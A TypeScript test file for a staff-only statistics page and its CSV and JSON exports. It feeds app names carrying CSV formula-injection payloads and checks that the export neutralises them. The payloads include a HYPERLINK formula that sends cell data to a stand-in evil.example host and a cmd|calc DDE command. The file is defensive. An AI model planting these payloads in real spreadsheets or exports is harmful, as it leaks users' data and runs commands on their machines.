import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { newHexId } from '../../src/shared/ids.ts';
import { takeLease } from '../../src/store/work/leases.ts';
import { NOTHING_COUNTED } from '../../src/store/progress/progress.ts';
import { DANA, browserOf, wordsOf } from '../owners/support/people.ts';
import type { CookieWalker } from '../support/callers/cookie-walker.ts';
import { until } from '../support/servers/held-answer.ts';
import { setDate } from '../reminders/support/planning-ground.ts';
import { registerLegacyApp } from '../support/bridge/register-app.ts';
import { SettableClock } from '../support/bridge/settable-clock.ts';
import { startSystem, type System } from '../support/bridge/system.ts';
import { staffBrowser } from './support/staff-browser.ts';

/** The numbers for the people above, on a page and as files for spreadsheets and programs. */

/** What a spreadsheet would run, with what may stand before it in a file. */
const HOSTILE: ReadonlyArray<readonly [name: string, kept: string]> = [
  ['=HYPERLINK("https://evil.example?"&A1,"click")', `'=HYPERLINK("https://evil.example?"&A1,"click")`],
  ['+1+1', "'+1+1"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ['@SUM(1,2)', "'@SUM(1,2)"],
  ['\t=1+1', "'\t'=1+1"],
  ['\r=1+1', "'\r'=1+1"],
  ['\tplain', "'\tplain"],
  ['  =1+1', "'  '=1+1"],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠a', "'＠a"],
  ['x;=1+1', "'x;'=1+1"],
  ['a "quoted", name\r\nin two lines; ok', 'a "quoted", name\r\nin two lines; ok'],
  ['Ünïcödé 應用 🚲', 'Ünïcödé 應用 🚲'],
  ['a=b - c', 'a=b - c'],
];

const clock = new SettableClock(Date.parse('2026-11-22T10:00:00Z'));
let system: System;
let staff: CookieWalker;

const rows = () => system.bridge.context.store.durable;

const counted = (client_id: string, day: string, numbers: Record<string, number>) => ({
  client_id,
  day,
  ...NOTHING_COUNTED,
  ...numbers,
});

/** The numbers of these rows together, on each day on which there are some: every app has a row on each. */
async function keepProgressOfAll(all: ReadonlyArray<ReturnType<typeof counted>>): Promise<void> {
  for (const day of new Set(all.map((row) => row.day))) {
    const sum = { ...counted('', day, {}) };
    for (const row of all.filter((one) => one.day === day))
      for (const name of ['unmapped', 'active', 'migrated', 'waiting_people'] as const)
        sum[name] += row[name];
    const { client_id: _id, ...ofAll } = sum;
    await rows().insertInto('progress_of_all').values(ofAll).execute();
  }
}

/** One app of each hostile name, that had its numbers before the days of the export and changed within them. */
async function keepApps(): Promise<Map<string, string>> {
  const kept = new Map<string, string>();
  for (const [name, shown] of HOSTILE) {
    const { clientId } = await registerLegacyApp(system.bridge, 'https://h.example/cb');
    await rows().updateTable('apps').set({ name }).where('client_id', '=', clientId).execute();
    kept.set(clientId, shown);
  }
  await rows().deleteFrom('progress').execute();
  const all = [...kept.keys()].flatMap((clientId) => [
    counted(clientId, '2026-01-01', { unmapped: 4, waiting_people: 4 }),
    counted(clientId, '2026-05-01', { unmapped: 3, waiting_people: 3 }),
    counted(clientId, '2026-11-20', { unmapped: 1, active: 1, migrated: 1, waiting_people: 1 }),
  ]);
  await rows().insertInto('progress').values(all).execute();
  await keepProgressOfAll(all);
  return kept;
}

const mail = (state: 'sent' | 'undeliverable', ended_at: number) => ({
  id: newHexId(),
  person: `account:${newHexId()}`,
  day: '2026-11-01',
  replaces: '',
  state,
  attempts: 1,
  next_at: 0,
  created_at: 0,
  ended_at,
});

let apps: Map<string, string>;

beforeAll(async () => {
  system = await startSystem({ clock });
  staff = await staffBrowser(system, 'reader');
  // The hourly job would count anew what this file has written.
  const { store } = system.bridge.context;
  const lease = { name: 'job keep-progress', holder: newHexId() };
  const now = clock.now();
  await until(() => takeLease(store, lease, { now, until: now + 5 * 60_000 }));
});

afterAll(() => system.stop());

const get = (path: string) => staff.get(`${system.bridgeUrl}/support/numbers${path}`);

/** The bytes, which a text decoder would tidy up. */
async function csvOf(query: string) {
  const page = await get(`.csv${query}`);
  expect(page.status).toBe(200);
  // Without `relax` and `trim`: only what RFC 4180 allows is read.
  const records: Record<string, string>[] = parse(page.body, { columns: true, record_delimiter: '\r\n' });
  return { page, records };
}

test('before anything is counted it says so, and the files hold no app', async () => {
  await rows().deleteFrom('progress').execute();
  await rows().deleteFrom('progress_of_all').execute();
  expect(wordsOf(await get(''))).toContain('Nothing has been counted yet');
  const { context } = system.bridge;
  await setDate(context, 'retirement', '2027-01-21T00:00:00Z');
  expect(wordsOf(await get(''))).toMatch(
    /The retirement of the old API, on 21 January 2027 at 00:00 UTC, changes no call here\./,
  );
  await setDate(context, 'sunset', '2026-11-20T00:00:00Z');
  const words = wordsOf(await get(''));
  expect(words).toContain('The old API ended on 20 November 2026 at 00:00 UTC.');
  expect(words).not.toContain('retire');
  await rows().deleteFrom('lifecycle_dates').execute();
  await context.lifecycle.refresh();
  expect((await csvOf('?by=app')).page.body).toBe(
    'client_id,app_name,day,active,unmapped,reauthorization_required,migrated,revoked,waiting_people\r\n',
  );
  expect(JSON.parse((await get('.json?by=app')).body)).toMatchObject({ by: 'app', rows: [] });
  apps = await keepApps();
});

test('of the days before the first count the chart does not say that there was nothing', async () => {
  const words = wordsOf(await get(''));
  expect(words).toContain('Days that are not listed are as the day before them.');
  expect(words).not.toMatch(/had none|none are known/);
});

test('the page tells the totals of the newest counts, and links to the files', async () => {
  const now = clock.now();
  const grant = {
    client_id: system.app.clientId,
    account_id: DANA.accountId,
    modern_client_id: 'bridge',
    state: 'dead' as const,
    version: 1,
    scope: 's',
    access_expires_at: 0,
    refresh_at: 0,
    created_at: 0,
    updated_at: 0,
    rotated_at: 0,
  };
  const ago = (days: number) => now - days * 86_400_000;
  await browserOf(system, DANA);
  await rows()
    .insertInto('grants')
    .values([
      { ...grant, id: newHexId(), dead_cause: 'refused', dead_at: ago(0) },
      { ...grant, id: newHexId(), dead_cause: 'refused', dead_at: ago(29) },
      { ...grant, id: newHexId(), dead_cause: 'lost', dead_at: ago(3) },
      { ...grant, id: newHexId(), dead_cause: 'lost', dead_at: ago(31) },
    ])
    .execute();
  await rows()
    .insertInto('mails')
    .values([
      mail('sent', ago(1)),
      mail('sent', ago(29)),
      mail('sent', ago(31)),
      mail('undeliverable', ago(2)),
    ])
    .execute();
  const page = await get('');
  const words = wordsOf(page);
  expect(words).toContain(
    '32 of 48 tokens (67%) are done: 16 are connected and 16 have moved. 16 tokens of 16 people still wait. As counted 22 Nov 2026, 10:00 UTC',
  );
  expect(words).toMatch(/0 of 16 apps done/);
  expect(words).toMatch(/Refused by the new API 2 Lost answer 1/);
  expect(words).toMatch(/Sent 2 Reached nobody 1/);
  for (const file of ['day', 'app', 'forecast'].flatMap((by) => [`csv?by=${by}`, `json?by=${by}`]))
    expect(page.body).toContain(`href="/support/numbers.${file}"`);
});

test('every end is counted in its bar and its sum, however many there are', async () => {
  await sql`
    insert into grants (id, client_id, account_id, modern_client_id, state, dead_cause, dead_at, version, scope,
      access_expires_at, refresh_at, created_at, updated_at, rotated_at)
    with recursive numbers (n) as (select 1 union all select n + 1 from numbers where n < 20100)
    select 'end ' || n, ${system.app.clientId}, ${DANA.accountId}, 'bridge', 'dead', 'superseded',
      case when n <= 20000 then ${clock.now()} else ${clock.now() - 5 * 86_400_000} end, 1, 's', 0, 0, 0, 0, 0
    from numbers`.execute(rows());
  const words = wordsOf(await get(''));
  await rows().deleteFrom('grants').where('id', 'like', 'end %').execute();
  expect(words).toMatch(/Refused by the new API 2 Lost answer 1 Restored from an older backup 20,100/);
  expect(words).toMatch(/: 20,100\. The most on one day: 20,001, on 22 Nov/);
});

test('the CSV of apps is read by a strict reader, and no name in it is a formula', async () => {
  const { page, records } = await csvOf('?by=app');
  expect(page.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
  expect(page.headers.get('content-disposition')).toBe(
    'attachment; filename="grantbridge-by-app-2026-11-22.csv"',
  );
  expect(page.headers.get('x-content-type-options')).toBe('nosniff');
  const names = new Map(records.map((row) => [row['client_id'], row['app_name']]));
  expect(names).toEqual(apps);
  for (const row of records)
    for (const cell of Object.values(row)) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠\t\r]/);
  const [clientId = ''] = apps.keys();
  const own = records.filter((row) => row['client_id'] === clientId);
  expect(own.map((row) => [row['day'], row['unmapped'], row['waiting_people']])).toEqual([
    ['2026-05-01', '3', '3'],
    ['2026-11-20', '1', '1'],
  ]);
});

test('the JSON has the same numbers as the CSV, and names as they are', async () => {
  for (const by of ['app', 'day']) {
    const { records } = await csvOf(`?by=${by}`);
    const json = JSON.parse((await get(`.json?by=${by}`)).body) as {
      columns: string[];
      rows: Array<Record<string, string | number>>;
    };
    const numeric = (row: Record<string, unknown>) =>
      json.columns.filter((name) => name !== 'app_name').map((name) => String(row[name]));
    expect(json.rows.map(numeric)).toEqual(records.map(numeric));
    if (by === 'app')
      expect(json.rows.map((row) => row['app_name'])).toContain(
        '=HYPERLINK("https://evil.example?"&A1,"click")',
      );
  }
});

test('by day every day has a row, carried on from the last count', async () => {
  const { records } = await csvOf('');
  expect(records).toHaveLength(90);
  expect(records.at(-1)).toEqual({
    day: '2026-11-22',
    active: '16',
    waiting: '16',
    migrated: '16',
    revoked: '0',
  });
  expect(records.at(-4)).toEqual({
    day: '2026-11-19',
    active: '0',
    waiting: '48',
    migrated: '0',
    revoked: '0',
  });
  // Before the first count nobody knows the numbers, and no row says that they were zero.
  const all = (await csvOf('?days=400')).records;
  expect([all.length, all[0]]).toEqual([326, expect.objectContaining({ day: '2026-01-01', waiting: '64' })]);
});

test('a question that has no answer is refused with what may be asked', async () => {
  for (const query of ['?by=hour', '?days=0', '?days=401', '?days=1e2', '?by=day&by=app']) {
    const page = await get(`.csv${query}`);
    expect(page.status).toBe(400);
    expect(wordsOf(page)).toContain('by is “day”, “app” or “forecast”');
  }
});

test('who is not of the staff gets no numbers, on no page and in no file', async () => {
  const dana = await browserOf(system, DANA);
  for (const path of ['', '.csv', '.json'])
    expect((await dana.get(`${system.bridgeUrl}/support/numbers${path}`)).status).toBe(403);
});
